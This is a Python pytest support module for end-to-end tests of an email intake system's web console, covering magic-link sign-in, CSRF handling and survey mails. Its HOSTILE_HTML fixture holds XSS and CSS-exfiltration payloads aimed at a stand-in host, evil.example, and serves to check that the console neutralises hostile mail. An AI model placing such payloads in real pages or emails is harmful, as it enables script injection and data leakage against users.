"""The console against real servers: a private Dovecot and SMTP sink feed the daemon's pipeline
(``run_once``), then the console (Starlette TestClient, or uvicorn for the browser tests) works
on the cases it registered. The clock is a seam (``WebClock``) so link expiry is testable."""

from __future__ import annotations

import email
import email.policy
import re
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from intake.app import build_app
from intake.daemon import run_once
from intake.db import make_engine
from intake.settings import load_settings
from intake.web import auth
from intake.web.server import create_app
from tests.e2e.harness import make_env, sample_bytes

HOSTILE_HTML = (
    "<html><head><style>input[value^=a]{background:url(https://evil.example/leak?a)}</style></head><body>"
    "<p>안녕하십니까. 방북증명서 발급 절차를 여쭙니다.</p>"
    "<script>document.title='pwned'</script>"
    "<img src=x onerror=\"alert('xss')\">"
    "<a href=\"javascript:alert(1)\">자세히</a>"
    "<div style=\"background-image:url('https://evil.example/track.png')\">연락 부탁드립니다.</div>"
    "<iframe src=\"https://evil.example/\"></iframe>"
    "</body></html>")


def hostile_mail() -> bytes:
    from email.message import EmailMessage

    msg = EmailMessage()
    msg["From"] = "홍길동 <gildong.hong@example.net>"
    msg["To"] = "consulting@sonosa.or.kr"
    msg["Subject"] = "방북증명서 발급 문의드립니다"
    msg["Message-ID"] = "<hostile-1@example.net>"
    msg["Date"] = "Thu, 03 Dec 2026 10:00:00 +0900"
    msg.set_content("안녕하십니까. 방북증명서 발급 절차를 여쭙니다. 연락 부탁드립니다.\n")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    return msg.as_bytes()


class WebClock:
    """Real time plus an offset the test moves forward."""

    def __init__(self):
        self.offset = timedelta()

    def __call__(self) -> datetime:
        return datetime.now(timezone.utc) + self.offset


@dataclass
class Console:
    env: object
    app: object          # the intake App the console uses
    asgi: object
    clock: WebClock
    keys: auth.Keys

    def client(self):
        from starlette.testclient import TestClient

        return TestClient(self.asgi, base_url="http://testserver", follow_redirects=False)

    def sign_in_links(self) -> list[str]:
        links = []
        for m in self.env.sink.messages():
            msg = email.message_from_bytes(m.raw, policy=email.policy.default)
            if "로그인" in str(msg["Subject"]):
                links += re.findall(r"https?://\S+/login/link/[A-Za-z0-9_\-]+", msg.get_body(("plain",)).get_content())
        return links

    def mails_to(self, address: str) -> list:
        out = []
        for m in self.env.sink.messages():
            if address in m.rcpt_to:
                out.append(email.message_from_bytes(m.raw, policy=email.policy.default))
        return out


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf_token" value="([0-9a-f]+)"', html)
    assert m, "no CSRF field on the page"
    return m.group(1)


def sign_in(console: Console, client, address: str) -> None:
    page = client.get("/login")
    before = len(console.sign_in_links())
    r = client.post("/login", data={"email": address, "csrf_token": csrf_of(page.text)})
    assert r.status_code == 200, r.text
    links = console.sign_in_links()
    assert len(links) == before + 1, "the sign-in mail did not arrive"
    path = links[-1].split("testserver", 1)[-1]
    confirm = client.get(path)
    assert confirm.status_code == 200
    done = client.post(path, data={"csrf_token": csrf_of(confirm.text)})
    assert done.status_code == 303, done.text


SAMPLES = ("sample-001.eml", "sample-002.eml", "sample-003.eml", "sample-070.eml", "sample-071.eml")


def build_console(tmp_path: Path, dovecot, smtp_sink, db_url: str | None = None, base_url="http://testserver",
                  survey: bool = False):
    secret = tmp_path / "web-secret"
    auth.init_secret(secret)
    env = make_env(tmp_path, dovecot, smtp_sink, db_url or f"sqlite:///{tmp_path / 'intake.db'}",
                   extra=f'[web]\nlisten = "127.0.0.1:8080"\nbase_url = "{base_url}"\n'
                         f'secret_file = "{secret}"\nsession_hours = 8\n'
                         + ("[survey]\nenabled = true\ndelay_hours = 24\n" if survey else ""))
    for name in SAMPLES:
        env.append(sample_bytes(name))
    env.append(hostile_mail())
    env.run_once()
    clock = WebClock()
    settings = load_settings(env.config)
    app = build_app(settings, clock=clock, engine=make_engine(settings.database.url))
    keys = auth.keys_from(settings.web)
    return Console(env=env, app=app, asgi=create_app(app, keys=keys), clock=clock, keys=keys)


HOSTILE_SENDER = "gildong.hong@example.net"


def mail_a_survey(console: Console, customer: str = HOSTILE_SENDER) -> tuple[str, list[str]]:
    """Answer ``customer``'s case (the staff action code), move the console's clock to the first
    working moment a day later, let the sweep's survey hook queue the survey and the daemon's
    sender deliver it to the SMTP sink; returns the case reference and the survey mail's links."""
    from sqlmodel import select

    from intake.adapters.smtp_mailer import SmtpMailer
    from intake.db import transaction
    from intake.domain.workdays import is_working_moment
    from intake.models import Case
    from intake.stages.case_actions import answer
    from intake.stages.send import deliver_due
    from intake.stages.survey import send_due_surveys

    app = console.app
    with transaction(app.engine) as s:
        case = s.exec(select(Case).where(Case.customer_address == customer)).first()
        answer(s, app, case, "문의하신 내용은 안내해 드린 대로 처리됩니다.", case.handler_id, app.now())
        ref = case.ref
    when = (app.now() + timedelta(hours=25)).replace(minute=0, second=0, microsecond=0)
    while not is_working_moment(app.calendar(when), when):
        when += timedelta(minutes=30)
    console.clock.offset = when - datetime.now(timezone.utc)
    assert send_due_surveys(app, app.now()) == 1
    deliver_due(app, SmtpMailer(app.settings.smtp))
    texts = [m.get_body(("plain",)).get_content() for m in console.mails_to(customer)
             if "고객 만족도" in str(m["Subject"]) and ref in str(m["Subject"])]
    assert len(texts) == 1, "one survey mail at the SMTP sink"
    return ref, re.findall(r"https?://\S+/survey/[0-9a-f.]+", texts[0])


@pytest.fixture
def console(tmp_path, dovecot, smtp_sink):
    c = build_console(tmp_path, dovecot, smtp_sink)
    try:
        yield c
    finally:
        c.app.engine.dispose()


ADMIN = "minsu.kim@example.org"          # kim.minsu: role = "admin" (config/staff.toml)
__all__ = ["console", "Console", "csrf_of", "sign_in", "ADMIN", "run_once", "mail_a_survey"]
